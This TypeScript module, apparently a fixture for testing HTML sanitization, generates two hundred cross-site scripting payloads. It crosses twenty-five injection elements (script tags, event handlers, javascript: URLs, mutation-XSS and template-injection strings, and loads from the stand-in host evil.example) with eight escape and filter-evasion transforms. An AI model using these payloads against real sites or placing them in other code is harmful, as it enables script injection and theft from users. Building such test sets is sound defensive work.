/** What each of these would do if a page obeyed it: set `owned`, or load something from another host. */
const ELEMENTS = [
  '<script>owned=1</script>',
  '<script src=//evil.example/s.js></script>',
  '<img src=x onerror=owned=1>',
  '<img src=//evil.example/i.png>',
  '<svg onload=owned=1>',
  '<svg><animate onbegin=owned=1 attributeName=x></svg>',
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  '<iframe src=javascript:parent.owned=1></iframe>',
  '<object data=//evil.example/o></object>',
  '<embed src=//evil.example/e>',
  '<link rel=stylesheet href=//evil.example/c.css>',
  '<style>@import "//evil.example/c.css"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<body onload=owned=1>',
  '<video><source onerror=owned=1></video>',
  '<details open ontoggle=owned=1>x</details>',
  '<input autofocus onfocus=owned=1>',
  '<form action=//evil.example/f><button autofocus onfocus=owned=1>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=owned=1>',
  '<noscript><p title="</noscript><img src=x onerror=owned=1>">',
  '<a href=javascript:owned=1 autofocus onfocus=owned=1>x</a>',
  '<template shadowrootmode=open><img src=x onerror=owned=1></template>',
  '{{constructor.constructor("owned=1")()}}<%= owned=1 %>',
  'javascript:owned=1//<!--',
]
/** How an element gets out of where it stands, or past a filter. */
const WAYS: ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `--></script></style></title></textarea>]]>${element}`,
  (element) => element.replaceAll('<', '<\u0000').replaceAll('=', '\t='),
  (element) => element.replace(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
  (element) => element.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
  (element) => `\u202e\u200b\u001b]0;owned\u0007${element}\u2028`,
]

/** Two hundred texts that a hostile endpoint would like a page to obey. */
export const PAYLOADS: readonly string[] = ELEMENTS.flatMap((element) => WAYS.map((way) => way(element)))
